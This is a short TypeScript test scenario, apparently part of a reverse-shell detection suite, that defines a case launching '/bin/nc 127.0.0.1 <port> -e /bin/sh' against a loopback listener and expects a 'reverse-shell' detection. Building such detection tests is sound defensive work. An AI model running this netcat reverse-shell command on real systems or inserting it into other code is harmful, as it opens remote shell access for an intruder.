// A shell whose standard streams are a connection to a loopback listener, which tells it to exit.
import type { Scenario } from '../scenario.ts';

export const reverseShell: Scenario = {
  id: 'reverse-shell',
  title: 'A reverse shell to a loopback listener',
  expects: ['reverse-shell'],
  command: ({ shell }) => ['/bin/nc', '127.0.0.1', String(shell.port), '-e', '/bin/sh'],
};
